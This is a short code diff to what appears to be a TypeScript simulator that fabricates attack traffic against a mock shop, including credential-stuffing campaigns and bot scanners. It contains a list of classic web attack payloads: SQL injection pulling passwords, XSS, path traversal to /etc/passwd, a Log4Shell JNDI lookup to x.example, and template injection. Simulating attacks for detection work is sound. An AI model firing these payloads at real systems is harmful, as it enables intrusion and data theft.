@@ -8,8 +8,8 @@ import { type Call, type Client, type ForgeKind, makeClient, type Sim } from './
 import { cnMobile } from './pii.js';
 import { Rng } from './random.js';
 import { makeJwt } from './render.js';
-import { SEARCH_TERMS, USER_ID_BASE } from './site.js';
 import type { Shop } from './shop.js';
+import { SEARCH_TERMS, USER_ID_BASE } from './site.js';
 import { hostingIp, residentialIp, SCANNER_UAS, UA } from './vocab.js';
 
 export const ATTACK_TYPES = [
@@ -199,6 +199,8 @@ export function scheduleCampaign(
         const bot = bots.find((b) => b.ip === a.client.ip) ?? bots[0]!;
         a.client.actor = bot.actor;
         a.client.ua = bot.ua;
+        // Accounts taken over are the campaign's users, though the bots never used the tokens they got.
+        if (ok) sim.campaign(id).users.add(sub);
         return shop.login(x, username, ok, sub, a.t).call;
       });
       break;
@@ -407,6 +409,7 @@ const PAYLOADS = [
   '1 UNION SELECT username,password FROM users--',
   '<script>alert(1)</script>',
   '../../../../etc/passwd',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, meant literally
   '${jndi:ldap://x.example/a}',
   '{{7*7}}',
   '1;sleep(5)',
